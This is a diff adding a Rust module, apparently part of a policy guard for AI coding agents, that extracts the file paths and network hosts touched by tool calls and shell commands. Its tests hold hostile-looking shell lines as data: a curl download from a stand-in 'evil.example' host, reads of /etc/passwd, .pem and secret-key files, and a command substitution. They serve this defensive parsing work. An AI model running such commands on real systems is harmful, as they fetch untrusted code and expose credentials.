@@ -1,0 +1,274 @@
+//! What a call touches, read from its arguments: seed 004's structured fields, the
+//! agents' own tools (`Read`/`Edit`/`Write` `file_path`, `WebFetch` `url`) and a shell
+//! line's path and host arguments (`cat`, `cp`, `mv`, `rm`, `curl`, `wget`,
+//! redirections), so a forbidden path is forbidden whichever tool touches it.
+
+use super::Touches;
+use crate::policy::shell::{CommandLine, base_name, parse_command_line};
+use serde_json::Value;
+
+/// The most paths and targets read from one call; past it the call is unreadable.
+pub const MAX_TOUCHES: usize = 256;
+
+/// Seed 004's operation for a built-in agent tool (canonical name, seed 002).
+pub fn builtin_operation(canonical: &str) -> Option<&'static str> {
+    Some(match canonical {
+        "read_file" | "glob" | "grep" => "FILE_READ",
+        "write_file" | "edit_file" | "notebook_edit" => "FILE_WRITE",
+        "run_shell_command" => "PROCESS_EXECUTE",
+        "web_fetch" | "web_search" => "NETWORK_REQUEST",
+        _ => return None,
+    })
+}
+
+/// The operation a tool call is when the call names none: a built-in tool's seed 004
+/// operation (`Read` is `FILE_READ`), any other tool's `server:tool`.
+pub fn tool_operation(server: &str, tool: &str) -> String {
+    if server == crate::policy::BUILTIN_SERVER {
+        let canonical = crate::policy::canonical_builtin(tool);
+        if let Some(op) = builtin_operation(canonical) {
+            return op.to_owned();
+        }
+    }
+    format!("{server}:{tool}")
+}
+
+/// Commands whose arguments (other than options) are all files.
+const FILE_COMMANDS: [&str; 24] = [
+    "cat", "cp", "mv", "rm", "head", "tail", "less", "more", "touch", "mkdir", "rmdir", "ln",
+    "chmod", "chown", "tee", "install", "rsync", "scp", "shred", "truncate", "unlink", "stat",
+    "source", ".",
+];
+
+/// Commands whose arguments (other than options) are URLs or hosts.
+const NET_COMMANDS: [&str; 2] = ["curl", "wget"];
+
+/// Options of `curl` and `wget` whose value is a file.
+const FILE_OPTIONS: [&str; 9] = [
+    "-o",
+    "--output",
+    "-O",
+    "--output-document",
+    "-T",
+    "--upload-file",
+    "-K",
+    "--config",
+    "--input-file",
+];
+
+/// Reads what a tool's input touches: `tool` is the canonical built-in name or any
+/// other tool's name; `input` its arguments as the client sends them.
+pub fn touches_of_tool_input(tool: &str, input: &Value) -> Touches {
+    let mut t = Touches::default();
+    let Some(fields) = input.as_object() else {
+        return t;
+    };
+    let text = |key: &str| fields.get(key).and_then(Value::as_str);
+    for key in ["file_path", "filePath", "notebook_path", "path"] {
+        if let Some(p) = text(key) {
+            add(&mut t.paths, p, &mut t.unreadable);
+        }
+    }
+    for key in ["url", "uri", "endpoint", "host"] {
+        if let Some(u) = text(key) {
+            add(&mut t.targets, u, &mut t.unreadable);
+        }
+    }
+    if let Some(p) = text("protocol") {
+        t.protocols.push(p.to_owned());
+    }
+    if let Some(d) = text("database") {
+        t.databases.push(d.to_owned());
+    }
+    if let Some(table) = text("table") {
+        t.tables.push(table.to_owned());
+    }
+    if let Some(tables) = fields.get("tables").and_then(Value::as_array) {
+        for table in tables.iter().filter_map(Value::as_str) {
+            add(&mut t.tables, table, &mut t.unreadable);
+        }
+    }
+    t.component_type = text("componentType")
+        .or(text("component_type"))
+        .map(str::to_owned);
+    t.component_count = fields
+        .get("componentCount")
+        .or(fields.get("component_count"))
+        .and_then(Value::as_u64);
+    t.file_size = fields
+        .get("fileSize")
+        .or(fields.get("file_size"))
+        .and_then(Value::as_u64);
+    if tool == "write_file"
+        && let Some(content) = text("content")
+    {
+        t.file_size = Some(content.len() as u64);
+    }
+    if tool == "run_shell_command"
+        && let Some(line) = text("command")
+    {
+        merge(&mut t, touches_of_command(line));
+    }
+    t
+}
+
+fn add(list: &mut Vec<String>, value: &str, unreadable: &mut Option<String>) {
+    if list.len() >= MAX_TOUCHES {
+        unreadable.get_or_insert_with(|| format!("more than {MAX_TOUCHES} paths or hosts"));
+    } else {
+        list.push(value.to_owned());
+    }
+}
+
+fn merge(into: &mut Touches, from: Touches) {
+    for p in from.paths {
+        add(&mut into.paths, &p, &mut into.unreadable);
+    }
+    for u in from.targets {
+        add(&mut into.targets, &u, &mut into.unreadable);
+    }
+    if into.unreadable.is_none() {
+        into.unreadable = from.unreadable;
+    }
+}
+
+/// Reads the paths and hosts a shell line touches. An opaque command (one the shell
+/// reader cannot prove plain) or a file-name pattern makes the line unreadable.
+pub fn touches_of_command(line: &str) -> Touches {
+    touches_of_line(&parse_command_line(line))
+}
+
+fn touches_of_line(line: &CommandLine) -> Touches {
+    let mut t = Touches::default();
+    for command in &line.commands {
+        if let Some(why) = &command.opaque {
+            t.unreadable.get_or_insert_with(|| why.clone());
+            continue;
+        }
+        for target in &command.redirects {
+            if !matches!(target.as_str(), "/dev/null" | "/dev/stdout" | "/dev/stderr") {
+                add(&mut t.paths, target, &mut t.unreadable);
+            }
+        }
+        let words = &command.words;
+        // which words are files or URLs, by the command (or wrapped command) that reads them
+        let mut kind = vec![Kind::Unknown; words.len()];
+        for &at in &command.command_words {
+            let name = base_name(&words[at]);
+            let role = if FILE_COMMANDS.contains(&name) {
+                Kind::File
+            } else if NET_COMMANDS.contains(&name) {
+                Kind::Url
+            } else {
+                continue;
+            };
+            let mut i = at + 1;
+            while i < words.len() {
+                let w = &words[i];
+                if FILE_OPTIONS.contains(&w.as_str()) && role == Kind::Url {
+                    if i + 1 < words.len() {
+                        kind[i + 1] = Kind::File;
+                    }
+                    i += 2;
+                    continue;
+                }
+                if !w.starts_with('-') && kind[i] == Kind::Unknown {
+                    kind[i] = role;
+                }
+                i += 1;
+            }
+        }
+        for (i, w) in words.iter().enumerate().skip(command.command_at + 1) {
+            let value = match w.split_once('=') {
+                // `--output=/x`, `of=/dev/sda`
+                Some((option, value)) if option.starts_with('-') || option.len() <= 3 => value,
+                _ => w.as_str(),
+            };
+            let kind = match kind[i] {
+                Kind::Unknown if value.contains("://") => Kind::Url,
+                // any word that looks like a path counts, whatever reads it
+                Kind::Unknown
+                    if !w.starts_with('-') && (value.contains('/') || value.starts_with('~')) =>
+                {
+                    Kind::File
+                }
+                Kind::Unknown if value != w && value.contains('/') => Kind::File,
+                k => k,
+            };
+            match kind {
+                Kind::File if command.globs.get(i).copied().unwrap_or(false) => {
+                    t.unreadable
+                        .get_or_insert_with(|| format!("{w:?} is a file name pattern"));
+                }
+                Kind::File => add(&mut t.paths, value, &mut t.unreadable),
+                Kind::Url => {
+                    // curl reads a bare host as http
+                    if value.contains("://") {
+                        add(&mut t.targets, value, &mut t.unreadable);
+                    } else {
+                        add(
+                            &mut t.targets,
+                            &format!("http://{value}"),
+                            &mut t.unreadable,
+                        );
+                    }
+                }
+                Kind::Unknown => {}
+            }
+        }
+    }
+    t
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    Unknown,
+    File,
+    Url,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn shell_lines_name_their_paths_and_hosts() {
+        let cases: [(&str, &[&str], &[&str], bool); 9] = [
+            ("cat secret.key", &["secret.key"], &[], false),
+            ("cp a.json /etc/x", &["a.json", "/etc/x"], &[], false),
+            ("sudo rm -rf build", &["build"], &[], false),
+            (
+                "curl -o out.bin https://evil.example/x",
+                &["out.bin"],
+                &["https://evil.example/x"],
+                false,
+            ),
+            ("wget example.com", &[], &["http://example.com"], false),
+            ("echo hi > notes.md", &["notes.md"], &[], false),
+            ("git status 2>&1 >/dev/null", &[], &[], false),
+            ("cat *.pem", &[], &[], true),
+            ("cat $(echo x)", &[], &[], true),
+        ];
+        for (line, paths, targets, unreadable) in cases {
+            let t = touches_of_command(line);
+            assert_eq!(t.paths, paths.to_vec(), "{line}");
+            assert_eq!(t.targets, targets.to_vec(), "{line}");
+            assert_eq!(t.unreadable.is_some(), unreadable, "{line}: {t:?}");
+        }
+    }
+
+    #[test]
+    fn claude_code_tools_name_their_paths() {
+        let t = touches_of_tool_input(
+            "write_file",
+            &serde_json::json!({"file_path": "/p/a.key", "content": "abc"}),
+        );
+        assert_eq!(t.paths, ["/p/a.key"]);
+        assert_eq!(t.file_size, Some(3));
+        let t = touches_of_tool_input(
+            "run_shell_command",
+            &serde_json::json!({"command": "cat /etc/passwd"}),
+        );
+        assert_eq!(t.paths, ["/etc/passwd"]);
+    }
+}
